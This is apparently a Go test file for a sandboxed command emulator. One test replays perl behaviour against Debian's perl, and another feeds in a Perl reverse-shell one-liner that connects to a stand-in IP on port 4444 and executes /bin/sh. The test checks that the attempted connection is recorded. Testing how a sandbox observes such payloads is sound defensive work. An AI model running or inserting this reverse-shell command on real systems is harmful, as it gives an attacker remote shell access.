package coreutils_test

import "testing"

// TestPerl holds our answers against those of Debian's perl.
func TestPerl(t *testing.T) { replay(t, "perl.json", 0.97) }

func TestPerlReaches(t *testing.T) {
	b := newBench(t, "debian-12-fresh")
	_, _, _ = b.run("", "perl", "-MIO", "-e", `use Socket;$i="198.51.100.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){exec("/bin/sh -i");};`)
	if len(b.seen) != 1 || b.seen[0] != "get perl tcp://198.51.100.9:4444 " {
		t.Errorf("seen %q", b.seen)
	}
}
